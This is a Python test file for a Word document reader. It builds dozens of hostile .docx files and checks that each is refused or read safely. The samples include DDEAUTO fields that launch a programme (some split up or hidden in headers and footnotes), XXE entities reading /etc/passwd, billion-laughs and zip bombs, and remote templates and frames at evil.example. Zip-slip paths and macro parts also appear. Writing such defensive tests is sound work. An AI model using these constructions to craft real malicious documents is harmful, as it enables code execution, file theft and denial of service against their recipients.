"""Word files that mean harm: each kind is refused with a reason, or read as if the harmful part were not there."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile

import pytest

from toolkit.documents import read_docx
from toolkit.documents.word.read import read_word
from toolkit.errors import UnreadableFile

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TEXT = "<w:p><w:r><w:t>Article 1</w:t></w:r></w:p>"


def archive(members: dict[str, str | bytes] | list[tuple[str, str | bytes]]) -> bytes:
    file = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # that a name is there twice
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
            for name, data in members.items() if isinstance(members, dict) else members:
                made.writestr(name, data)
    return file.getvalue()


def document(body: str = TEXT, head: str = HEAD) -> str:
    return f"{head}<w:document {W}><w:body>{body}</w:body></w:document>"


def word(body: str = TEXT, head: str = HEAD, **more: str | bytes) -> bytes:
    return archive({"word/document.xml": document(body, head), **{k.replace("__", "/"): v for k, v in more.items()}})


def relation(kind: str, target: str, mode: str = "External") -> str:
    return RELATIONS.format(f'<Relationship Id="r1" Type="{WORD}/{kind}" Target="{target}" TargetMode="{mode}"/>')


def with_relation(kind: str, target: str, mode: str = "External", part: str = "document.xml") -> bytes:
    return archive({"word/document.xml": document(), f"word/_rels/{part}.rels": relation(kind, target, mode)})


def with_type(kind: str) -> bytes:
    types = TYPES.format(f'<Override PartName="/word/document.xml" ContentType="{kind}"/>')
    return archive({"[Content_Types].xml": types, "word/document.xml": document()})


def many_entries() -> bytes:
    return archive([(f"word/media/{n}.png", b"") for n in range(5100)] + [("word/document.xml", document())])


def password() -> bytes:
    data = bytearray(word())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature) + place
        data[at : at + 2] = struct.pack("<H", 1)
    return bytes(data)


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return word(f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>")


def run(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instruction(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


DDE = f"<w:p>{run('begin')}{instruction(' DDEAUTO c:/windows calc')}{run('end')}</w:p>"


def elsewhere(path: str) -> bytes:
    """A header that lies where nobody looks: only the table of contents says what it is."""
    kind = MAIN.replace("document.main", "header")
    types = TYPES.format(f'<Override PartName="/{path}" ContentType="{kind}"/>')
    return archive({"[Content_Types].xml": types, "word/document.xml": document(), path: f"<w:hdr {W}>{DDE}</w:hdr>"})


def noted(note: str, calls: str) -> bytes:
    said = f"<w:p><w:r><w:t>{note}</w:t></w:r></w:p>"
    return archive(
        {
            "word/document.xml": document(f"<w:p><w:r><w:t>No use</w:t></w:r><w:r>{calls}</w:r></w:p>"),
            "word/_rels/document.xml.rels": relation("footnotes", "footnotes.xml", "Internal"),
            "word/footnotes.xml": f'<w:footnotes {W}><w:footnote w:id="2">{said}</w:footnote></w:footnotes>',
        }
    )


def many_lists() -> bytes:
    """Thousands of lists of one kind that has thousands of levels: multiplied they fill a computer."""
    levels = "".join(f'<w:lvl w:ilvl="{n % 1000}"><w:lvlText w:val="{"x" * 40}"/></w:lvl>' for n in range(4000))
    lists = "".join(f'<w:num w:numId="{n}"><w:abstractNumId w:val="0"/></w:num>' for n in range(10_000))
    kind = f'<w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>'
    return archive(
        {
            "word/document.xml": document(),
            "word/_rels/document.xml.rels": relation("numbering", "numbering.xml", "Internal"),
            "word/numbering.xml": f"<w:numbering {W}>{kind}{lists}</w:numbering>",
        }
    )


ENTITY = f'{HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE d [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {b} '{('&' + a + ';') * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
UTF16_ENTITY = document("<w:p/>", ENTITY.replace("UTF-8", "UTF-16")).encode("utf-16")

REFUSED = {
    "an empty file": (lambda: b"", "is not a Word file, or it is damaged"),
    "no archive": (lambda: b"Article 1", "is not a Word file, or it is damaged"),
    "a file cut in half": (lambda: word()[:150], "is not a Word file, or it is damaged"),
    "an old Word file or one with a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "is an old Word file",
    ),
    "an archive with a password": (password, "has a password"),
    "a spreadsheet": (
        lambda: with_type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        "holds no Word text",
    ),
    "a bomb in one part": (lambda: word(" " * (60 * 2**20)), "is too large"),
    "a bomb of many parts": (
        lambda: archive([(f"word/{n}.xml", b"\0" * 2**20) for n in range(60)] + [("word/document.xml", document())]),
        "is too large",
    ),
    "a bomb just below the limit of the whole": (lambda: word(" " * (30 * 2**20)), "is too large"),
    "thousands of parts": (many_entries, "is too large"),
    "millions of elements": (lambda: word("<w:p/>" * 2_000_000), "is too large"),
    "millions of attributes": (
        lambda: word("<w:p " + " ".join(f'a{n}=""' for n in range(1_200_000)) + "/>"),
        "is",
    ),
    "millions of cells": (lambda: word("<w:tbl><w:tr>" + "<w:tc/>" * 2_000_000 + "</w:tr></w:tbl>"), "is too large"),
    "elements nested thousands deep": (lambda: word("<w:sdt>" * 9000), "is not a Word file, or it is damaged"),
    "a huge attribute": (lambda: word(f'<w:p w:x="{"a" * (11 * 2**20)}"/>'), "is not a Word file, or it is damaged"),
    "an entity from a file": (lambda: word("<w:p/>", ENTITY), "holds instructions that no Word file needs"),
    "a billion laughs": (lambda: word("<w:p/>", f"{LAUGHS}]>"), "holds instructions that no Word file needs"),
    "an entity in another encoding": (
        lambda: archive({"word/document.xml": UTF16_ENTITY}),
        "holds instructions that no Word file needs",
    ),
    "a document type in the styles": (
        lambda: archive(
            {
                "word/document.xml": document(),
                "word/_rels/document.xml.rels": relation("styles", "styles.xml", "Internal"),
                "word/styles.xml": f'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><w:styles {W}/>',
            }
        ),
        "holds instructions that no Word file needs",
    ),
    "an encoding that hides": (
        lambda: word(head='<?xml version="1.0" encoding="UTF-7"?>'),
        "holds an encoding that no Word file uses",
    ),
    "letters that are none": (
        lambda: archive({"word/document.xml": document("<w:p>\udc80</w:p>").encode("utf-8", "surrogatepass")}),
        "is not a Word file, or it is damaged",
    ),
    "a template from the network": (
        lambda: with_relation("attachedTemplate", "http://evil.example/t.dotm", part="settings.xml"),
        "would fetch something from elsewhere",
    ),
    "a picture from the network": (
        lambda: with_relation("image", "http://evil.example/pixel.png"),
        "would fetch something from elsewhere",
    ),
    "an object linked to a file": (
        lambda: with_relation("oleObject", "file:///C:/secret.xls"),
        "would fetch something from elsewhere",
    ),
    "a frame": (lambda: with_relation("frame", "//evil.example/x.htm"), "would fetch something from elsewhere"),
    "macros": (lambda: word(**{"word__vbaProject.bin": b"x"}), "holds macros"),
    "macros under another name": (
        lambda: with_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "holds macros",
    ),
    "a control that acts": (lambda: with_relation("control", "activeX/activeX1.xml", "Internal"), "holds macros"),
    "text of another file by a chunk": (
        lambda: with_relation("aFChunk", "chunk.htm", "Internal"),
        "shows text that lies in another file",
    ),
    "text of another file in the body": (
        lambda: word('<w:altChunk w:id="r9"/>'),
        "shows text that lies in another file",
    ),
    "a subdocument": (lambda: word('<w:subDoc w:id="r9"/>'), "shows text that lies in another file"),
    "a field that starts a programme": (lambda: field("DDEAUTO c:\\\\windows calc"), "holds a field that fetches"),
    "such a field cut in pieces": (lambda: field(" D", "DEAU", "TO c:\\\\windows calc"), "holds a field that fetches"),
    "a field that reads a file": (
        lambda: word('<w:p><w:fldSimple w:instr="INCLUDETEXT secret.txt"/></w:p>'),
        "holds a field that fetches",
    ),
    "such a field whose name is put together by another": (
        lambda: word(
            f"<w:p>{run('begin')}{instruction(' D')}{run('begin')}{instruction('QUOTE 68 69')}{run('end')}"
            f"{instruction('AUTO calc')}{run('end')}</w:p>"
        ),
        "holds a field that fetches",
    ),
    **{
        f"such a field in {part}": (
            lambda part=part: word(**{f"word__{part}.xml": f"<w:x {W}>{DDE}</w:x>"}),
            "holds a field that fetches",
        )
        for part in ("header1", "footer3", "footnotes", "endnotes", "comments", "glossary__document", "strange")
    },
    "such a field in a part that lies elsewhere": (lambda: elsewhere("xl/drawing.xml"), "holds a field that fetches"),
    "such a field among the properties": (lambda: elsewhere("customXml/item1.xml"), "holds a field that fetches"),
    "a document type in the comments": (
        lambda: word(**{"word__comments.xml": "<!DOCTYPE x><x/>"}),
        "holds instructions that no Word file needs",
    ),
    "a note that is called twenty thousand times": (
        lambda: noted("x" * 100_000, '<w:footnoteReference w:id="2"/>' * 20_000),
        "footnotes counted each time they are called",
    ),
    "changes inside changes inside changes": (
        lambda: word(
            "<w:p>" + "<w:ins>" * 150 + f"<w:r><w:t>{'x' * 100_000}</w:t></w:r>" + "</w:ins>" * 150 + "</w:p>"
        ),
        "is too long",
    ),
    "hundreds of thousands of changes": (lambda: word("<w:p>" + "<w:ins/>" * 300_000 + "</w:p>"), "is too long"),
    "a book": (lambda: word(f"<w:p><w:r><w:t>{'x ' * 50_000}</w:t></w:r></w:p>" * 50), "is too long"),
    "a part that wants out of its folder": (
        lambda: word(**{"..__..__evil.sh": b"x"}),
        "holds a part that wants to be written outside its folder",
    ),
    "a part with an absolute name": (
        lambda: archive({"word/document.xml": document(), "/etc/passwd": b"x"}),
        "holds a part that wants to be written outside its folder",
    ),
    "the text twice": (
        lambda: archive([("word/document.xml", document()), ("word/document.xml", document("<w:p/>"))]),
        "holds the same part twice",
    ),
    "the text twice in other capitals": (
        lambda: archive([("word/document.xml", document()), ("Word/Document.xml", document("<w:p/>"))]),
        "holds the same part twice",
    ),
}

NEUTRALISED = {
    "a link that a person may follow": lambda: with_relation("hyperlink", "http://evil.example/"),
    "the writer's own template": lambda: with_relation(
        "attachedTemplate", "file:///C:/Users/a/Normal.dotm", part="settings.xml"
    ),
    "an embedded object": lambda: word(**{"word__embeddings__oleObject1.bin": b"MZ" * 100}),
    "custom XML": lambda: word(**{"customXml__item1.xml": f"{LAUGHS}]><x>&i;</x>"}),
    "thousands of lists with thousands of levels": many_lists,
    "tables inside tables": lambda: word("<w:tbl><w:tr><w:tc>" * 60 + TEXT + "</w:tc></w:tr></w:tbl>" * 60),
    "an archive in the archive": lambda: word(**{"word__media__a.zip": archive({"b": b"\0" * 2**20})}),
    "attributes that are no numbers": lambda: word(
        '<w:p><w:pPr><w:outlineLvl w:val="99999999999999999999"/><w:numPr><w:ilvl w:val="-1"/></w:numPr></w:pPr>'
        "<w:r><w:t>Article 1</w:t></w:r></w:p>"
    ),
}


@pytest.mark.parametrize("kind", REFUSED)
@pytest.mark.slow
def test_a_file_that_means_harm_is_refused_with_a_reason_and_a_next_step(kind: str) -> None:
    make, sentence = REFUSED[kind]
    with pytest.raises(UnreadableFile) as error:
        read_docx(make(), name="answer.docx")
    assert str(error.value).startswith("The file “answer.docx” ")
    assert sentence in str(error.value)
    assert error.value.sentence.endswith(".")


@pytest.mark.parametrize("kind", NEUTRALISED)
def test_what_is_not_needed_is_not_looked_at(kind: str) -> None:
    assert [block.text for block in read_docx(NEUTRALISED[kind]())] == ["Article 1"]


def test_at_least_twenty_kinds_are_refused() -> None:
    assert len(REFUSED) >= 20


def test_a_field_that_only_numbers_pages_is_no_danger() -> None:
    assert read_docx(field(" PAGE ")) == ()
    assert read_docx(field(" REF _Ref1 \\r \\h ")) == ()
    inside = f"{run('begin')}{instruction(' PAGE ')}{run('separate')}<w:r><w:t>2</w:t></w:r>{run('end')}"
    honest = f"<w:p>{run('begin')}{instruction(' IF ')}{inside}{instruction(' = 1 a b')}{run('end')}</w:p>"
    listed = f"<w:p>{run('begin')}{instruction('TOC')}{run('separate')}{inside}{run('end')}</w:p>"
    read_docx(word(honest + listed, **{"word__header1.xml": f"<w:hdr {W}>{honest}</w:hdr>"}))


def test_footnotes_are_read_where_they_are_called() -> None:
    data = noted("unless urgent", '<w:footnoteReference w:id="2"/>')
    assert [block.text for block in read_docx(data)] == ["No use [unless urgent]"]


def test_tracked_changes_are_read_both_ways_with_author_and_date() -> None:
    change = 'w:author="Employer" w:date="2026-12-01T10:00:00Z"'
    body = (
        f'<w:p><w:r><w:t xml:space="preserve">within </w:t></w:r><w:del w:id="1" {change}>'
        f'<w:r><w:delText>30</w:delText></w:r></w:del><w:ins w:id="2" {change}><w:r><w:t>90</w:t></w:r></w:ins></w:p>'
        f'<w:p><w:pPr><w:rPr><w:ins w:id="3" {change}/></w:rPr></w:pPr><w:ins w:id="4" {change}>'
        "<w:r><w:t>New.</w:t></w:r></w:ins></w:p><w:p><w:r><w:t>Last.</w:t></w:r></w:p>"
    )
    read = read_word(word(body))
    assert [block.text for block in read.blocks] == ["within 90", "New.", "Last."]
    assert [block.text for block in read.before] == ["within 30", "Last."]
    assert read.authors == ("Employer",)
    assert [(one.kind, one.text) for one in read.revisions if one.text] == [
        ("deleted", "30"),
        ("inserted", "90"),
        ("inserted", "New."),
    ]
    assert read.revisions[0].date is not None
    assert read.revisions[0].date.isoformat() == "2026-12-01T10:00:00+00:00"
